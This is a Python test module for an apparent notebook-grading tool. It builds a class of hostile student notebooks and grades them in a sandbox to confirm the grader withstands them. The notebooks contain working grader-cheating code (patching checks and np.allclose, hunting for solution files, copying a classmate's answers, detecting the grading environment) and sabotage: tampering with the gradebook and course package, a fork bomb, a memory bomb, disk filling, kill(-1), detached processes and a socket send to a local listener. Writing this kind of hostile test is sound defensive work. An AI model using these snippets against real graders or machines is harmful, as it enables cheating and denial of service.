"""The hostile class: attack notebooks, and one ``rnncourse grade --jobs 2`` batch that grades them.

Every hostile notebook answers the lesson correctly except ``tanh_backward`` (wrong), then
attacks. :func:`run_batch` grades them with honest submissions, in the bubblewrap sandbox or
with ``--unsafe-same-user``, and records what a test needs: the rows, the exit code, hashes of
the submissions folder, the course package and the checkout before and after, what a TCP server
on 127.0.0.1 saw, and any process or temporary folder left behind.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import subprocess
import threading
import time
import uuid
from pathlib import Path

from tests.grading.private_course import make_private_course
from tests.grading.test_grading_corpus import CORRECT, STUB, lesson_notebook, with_wrong_tanh, write

CHECKOUT = Path(__file__).resolve().parents[2]
MARK = f"98{os.getpid() % 1000:03d}"  # unique sleep durations identify our detached children
FORK_SLEEP = f"{MARK}1.5"
SETSID_SLEEP = f"{MARK}2.5"

SOLUTIONS_SEARCH = """import json, os
found = None
skip = {'proc', 'sys', 'dev', 'usr', 'etc', 'var', 'boot', 'run', 'snap', 'opt', 'bin', 'lib',
        'lib64', 'sbin', '.git', '.venv', 'venv', 'node_modules', 'site-packages', '__pycache__'}
for root, dirs, files in os.walk('/'):
    dirs[:] = [d for d in dirs if d not in skip and not d.startswith('pytest-')]
    if os.path.basename(root) == 'solutions' and '01_feedforward_backprop.ipynb' in files:
        found = os.path.join(root, '01_feedforward_backprop.ipynb')
        break
if found:
    for cell in json.load(open(found))['cells']:
        if cell.get('metadata', {}).get('nbgrader', {}).get('grade_id') == 'tanh_backward-answer':
            exec(''.join(cell['source']), globals())
"""

KILL_ALL = """import os, signal
# guard: only inside the sandbox's PID namespace (we are PID 2 under bwrap's PID 1); as root
# outside one, kill(-1) would kill the machine's processes
if os.getpid() == 2 and open('/proc/1/cmdline', 'rb').read().split(b'\\0')[0].endswith(b'bwrap'):
    import subprocess
    child = subprocess.Popen(['sleep', '60'])
    os.kill(-1, signal.SIGKILL)  # everything it can see but itself and PID 1: here, the child
    assert child.wait(timeout=5) == -signal.SIGKILL
else:
    raise RuntimeError('not inside the sandbox: kill(-1) skipped')
"""

FORK_BOMB = """import os, time
kids = []
try:
    while len(kids) < 3000:
        pid = os.fork()
        if pid == 0:
            time.sleep(2)
            os._exit(0)
        kids.append(pid)
except OSError:
    pass
for pid in kids:
    os.waitpid(pid, 0)
"""

LARGE_FILE = """import os
chunk = b'x' * (16 << 20)
for where in ('big.bin', os.path.join(os.environ.get('TMPDIR', '/tmp'), 'big.bin'), '/tmp/big.bin'):
    try:
        with open(where, 'wb') as fh:
            for _ in range(128):  # 2 GB, if nothing stops it
                fh.write(chunk)
    except OSError:
        pass
"""

DISK_MB = 300
"""``--disk`` of the hostile batches: small enough that the writers reach it within ``--timeout 8``
on a slow disk (large_file's second file, disk_fill's second), large enough for every other
notebook."""

DISK_FILL = """import os
chunk = b'x' * (8 << 20)
for i in range(12):  # twelve 200 MB files in its own folder: 2.4 GB, if nothing stops it
    try:
        with open(f'fill-{i}.bin', 'wb') as fh:
            for _ in range(25):
                fh.write(chunk)
    except OSError:
        pass
"""

PACKAGE_TAMPER = """import os, rnncourse, rnncourse.nn
for root, dirs, files in os.walk(os.path.dirname(rnncourse.__file__)):
    for name in files:
        path = os.path.join(root, name)
        try:
            with open(path, 'a') as fh:
                fh.write('\\n# tampered\\n')
        except OSError:
            pass
try:
    os.remove(rnncourse.nn.__file__)
except OSError:
    pass
"""


def hostile_notebooks(tmp, port, sandbox):
    """name -> notebook. ``sandbox`` False leaves out the attacks that would harm the machine."""
    subs, out, feedback = tmp / "subs", tmp / "out", tmp / "feedback"
    steal = (f"import json\nnb = json.load(open({str(subs / 'good.ipynb')!r}))\n"
             "for c in nb['cells']:\n"
             "    if 'def tanh_backward' in ''.join(c['source']):\n"
             "        exec(''.join(c['source']), globals())\n")
    tamper = ("import os, glob\n"
              f"open({str(out / 'gradebook.csv')!r}, 'w').write('submission,total\\nx,999\\n')\n"
              f"os.remove({str(subs / 'victim.ipynb')!r})\n"
              f"open({str(subs / 'good.ipynb')!r}, 'a').write(' ')\n"
              f"leak = open({str(out / 'gradebook.csv')!r}).read()\n"
              f"open({str(subs / 'leaked.txt')!r}, 'w').write(leak)\n"
              f"for path in glob.glob({str(feedback / '*')!r}):\n"
              "    open(path, 'w').write('all good, 100%')\n"
              "open('gradebook.csv', 'w').write('everyone,0\\n')\n")
    attacks = {
        "checker_replaced": with_wrong_tanh(after=[
            "check = lambda *a, **k: type('R', (), {'passed': True, 'points': 99})()\n"
            "import rnncourse.checks as _c, rnncourse.checks.engine.calls as _r\n"
            "import rnncourse.checks.engine.protocol as _p, rnncourse.checks.engine.plaindata as _d\n"
            "_c.check = check\n"
            "_r.invoke = lambda *a, **k: {'status': 'returned', 'value': None, 'mutated': []}\n"
            "_r.call_cases = lambda *a, **k: []\n"
            "_d.plain = lambda value, depth=0: value\n"
            "_p.Exercise.judge = lambda self, case, outputs: None\n"]),
        "allclose_replaced": with_wrong_tanh(after=[
            "np.allclose = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "np.array_equal = lambda *a, **k: True\n"
            "np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)\n"]),
        "input_transformer": with_wrong_tanh(before=[
            "get_ipython().input_transformers_post.append(lambda lines: [])\n"]),
        "file_tamper": with_wrong_tanh(after=[tamper]),
        "classmate_copy": with_wrong_tanh(after=[steal]),
        "solutions_search": with_wrong_tanh(after=[SOLUTIONS_SEARCH]),
        "package_tamper": with_wrong_tanh(after=[PACKAGE_TAMPER]),
        "network": with_wrong_tanh(after=[
            f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
            "s.sendall(b'stolen answers')\ns.close()\n"]),
        "large_file": with_wrong_tanh(after=[LARGE_FILE]),
        "disk_fill": with_wrong_tanh(after=[DISK_FILL]),
        "env_detect": lesson_notebook(dict(CORRECT, tanh_backward=(
            "import os, importlib\n"
            "_graded = any(k.upper().startswith(('NBGRADER', 'RNNCOURSE', 'GRAD', 'OTTER'))"
            " for k in os.environ) or os.getcwd().startswith(('/tmp', '/home/student'))\n"
            "if _graded:\n"
            "    _ref = getattr(importlib.import_module('rnncourse.' + 'nn'), 'tanh_' + 'backward')\n"
            "    def tanh_backward(dout, cache):\n"
            "        return _ref(dout, cache)\n"
            "else:\n"
            "    def tanh_backward(dout, cache):\n"
            "        return dout * (1.0 - cache)\n"))),
        "os_exit": with_wrong_tanh(after=["import os\nos._exit(0)\n"]),
        "kill_kernel": with_wrong_tanh(after=["import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"]),
        "kill_parent": with_wrong_tanh(after=[
            "import os, signal, time\nos.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(5)\n"]),
        "infinite_loop": with_wrong_tanh(after=[
            "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n"
            "    except BaseException:\n        pass\n"]),
        "output_flood": with_wrong_tanh(after=[
            "import sys\nline = 'x' * 100_000 + '\\n'\nfor _ in range(300):\n    sys.stdout.write(line)\n"]),
        "memory_bomb": with_wrong_tanh(after=[
            "hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))\n",
            "big = np.ones((100_000, 100_000))\n"]),
        "fork_detach": with_wrong_tanh(after=[
            "import os, subprocess\n"
            f"subprocess.Popen(['sleep', '{SETSID_SLEEP}'], start_new_session=True)\n"
            "pid = os.fork()\n"
            "if pid == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        os.execvp('sleep', ['sleep', '{FORK_SLEEP}'])\n"
            "    os._exit(0)\n"
            "os.waitpid(pid, 0)\n"]),
        "endless_function": lesson_notebook(dict(CORRECT, tanh_backward=(
            "def tanh_backward(dout, cache):\n    while True:\n        pass\n"))),
        "reference_import": lesson_notebook(dict(CORRECT, tanh_backward=(
            "from rnncourse.nn import tanh_backward as _tb\n"
            "def tanh_backward(dout, cache):\n    return _tb(dout, cache)\n"))),
        "reference_module": lesson_notebook(dict(CORRECT, tanh_backward=(
            "import rnncourse.nn as lib\n"
            "def _helper(a, b):\n    return lib.tanh_backward(a, b)\n"
            "def tanh_backward(dout, cache):\n    return _helper(dout, cache)\n"))),
    }
    if sandbox:  # unbounded outside a sandbox as root, or deadly outside a PID namespace
        attacks["kill_all"] = with_wrong_tanh(after=[KILL_ALL])
        attacks["fork_bomb"] = with_wrong_tanh(after=[FORK_BOMB])
    return attacks


HONEST = ("good.ipynb", "victim.ipynb")


class Listener:
    """A TCP server on 127.0.0.1 that records every connection and what it received."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.seen, self.stop = [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.seen.append(conn.recv(1000))
            except OSError:
                self.seen.append(b"")
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


def tree_digest(root, files=None):
    """{relative path: sha256} of every file under ``root`` (or of ``files``, relative to it)."""
    root = Path(root)
    paths = [root / f for f in files] if files is not None else [p for p in root.rglob("*")]
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(paths) if p.is_file() and not p.is_symlink()}


def checkout_digest():
    """The tracked files of the course checkout (solutions, lessons, the package, ...)."""
    files = subprocess.run(["git", "ls-files", "-z"], cwd=CHECKOUT, capture_output=True,
                           check=True).stdout.decode().split("\0")
    return tree_digest(CHECKOUT, [f for f in files if f])


def processes_touching(marker):
    """Processes whose command line or mounts name ``marker`` (ours, whoever else is running)."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        for what in ("cmdline", "mountinfo"):
            try:
                text = Path(f"/proc/{pid}/{what}").read_bytes()
            except OSError:
                continue
            if marker.encode() in text:
                found.append((int(pid), text.replace(b"\0", b" ")[:200].decode(errors="replace")))
                break
    return found


def detached_sleeps():
    """Our marked ``sleep`` processes (started by fork_detach) that are still alive."""
    return [p for p in processes_touching(f"sleep {FORK_SLEEP}") + processes_touching(
        f"sleep {SETSID_SLEEP}") if "sleep" in p[1]]


def run_batch(tmp, sandbox, extra_paths=()):
    """Grade the hostile class in one ``--jobs 2`` batch; returns what the tests check."""
    tmp = Path(tmp)
    marker = f"rnncourse-hostile-{uuid.uuid4().hex[:10]}"
    grader_tmp = Path("/tmp") / marker  # short: ipc socket paths are limited to 107 bytes
    grader_tmp.mkdir()
    for sub in ("subs", "out", "feedback"):
        (tmp / sub).mkdir(exist_ok=True)
    python = make_private_course(tmp / "course-install")
    package = tmp / "course-install" / "course" / "rnncourse"
    listener = Listener()
    subs = tmp / "subs"
    write(lesson_notebook(), subs / "good.ipynb")
    write(lesson_notebook(), subs / "victim.ipynb")
    write(lesson_notebook(STUB, questions={}), subs / "stub.ipynb")
    for name, nb in hostile_notebooks(tmp, listener.port, sandbox).items():
        write(nb, subs / f"{name}.ipynb")
    (tmp / "feedback" / "earlier-run.txt").write_text("last week's feedback\n")
    before = {"subs": tree_digest(subs), "package": tree_digest(package),
              "checkout": checkout_digest(), "feedback": tree_digest(tmp / "feedback")}
    env = dict(os.environ, OMP_NUM_THREADS="1", OPENBLAS_NUM_THREADS="1", TMPDIR=str(grader_tmp))
    command = [str(python), "-m", "rnncourse", "grade", "--jobs", "2", "--timeout", "8",
               "--memory", "1024", "--disk", str(DISK_MB), "--out", str(tmp / "out" / "gradebook.csv"),
               "--feedback", str(tmp / "feedback"), str(subs), *map(str, extra_paths)]
    if not sandbox:  # as root with a Python others cannot read, this runs the class as root
        command[4:4] = ["--unsafe-same-user", "--unsafe-as-root"]
    start = time.monotonic()
    try:
        proc = subprocess.run(command, capture_output=True, text=True, timeout=400, env=env,
                              cwd=tmp)
    finally:
        seconds = time.monotonic() - start
        time.sleep(0.3)
        listener.close()
    with open(tmp / "out" / "gradebook.csv", newline="") as fh:
        rows = {row["submission"]: row for row in csv.DictReader(fh)}
    reports = {json.loads(p.read_text())["name"]: json.loads(p.read_text())
               for p in (tmp / "out" / "gradebook-reports").glob("*.json")}
    after = {"subs": tree_digest(subs), "package": tree_digest(package),
             "checkout": checkout_digest(),
             "feedback": {k: v for k, v in tree_digest(tmp / "feedback").items()
                          if k == "earlier-run.txt"}}
    return {"proc": proc, "rows": rows, "reports": reports, "seconds": seconds, "tmp": tmp,
            "before": before, "after": after, "seen": list(listener.seen),
            "leftovers": processes_touching(marker) + detached_sleeps(),
            "temp_left": _remove_empty(grader_tmp)}


def _remove_empty(folder):
    """What is left in ``folder``; the folder is removed when empty."""
    left = sorted(os.listdir(folder))
    if not left:
        folder.rmdir()
    return left
